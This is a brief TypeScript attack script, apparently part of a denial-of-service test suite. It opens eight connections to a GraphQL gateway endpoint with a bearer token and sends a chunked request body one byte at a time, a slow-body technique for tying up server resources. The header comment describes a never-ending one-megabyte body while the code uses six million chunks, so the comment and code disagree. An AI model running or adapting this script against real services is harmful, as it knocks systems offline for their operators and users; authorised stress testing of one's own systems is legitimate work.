/** Eight requests at a time of one narrow token, each with a body of a megabyte in chunks of one byte that never ends. */
import { attack, head, oneByteChunks, readTarget } from './sockets.ts';

const target = readTarget();
const lines = [
  `Authorization: Bearer ${target.token ?? ''}`,
  'Content-Type: application/json',
  'Transfer-Encoding: chunked',
];
const begin = Buffer.from(head(target, 'POST /gateway/railway/graphql/v2', lines), 'latin1');
const body = oneByteChunks(6_000_000);

await attack(target, {
  sockets: 8,
  reads: true,
  begin: (_, write) => {
    write(begin);
    write(body);
  },
});
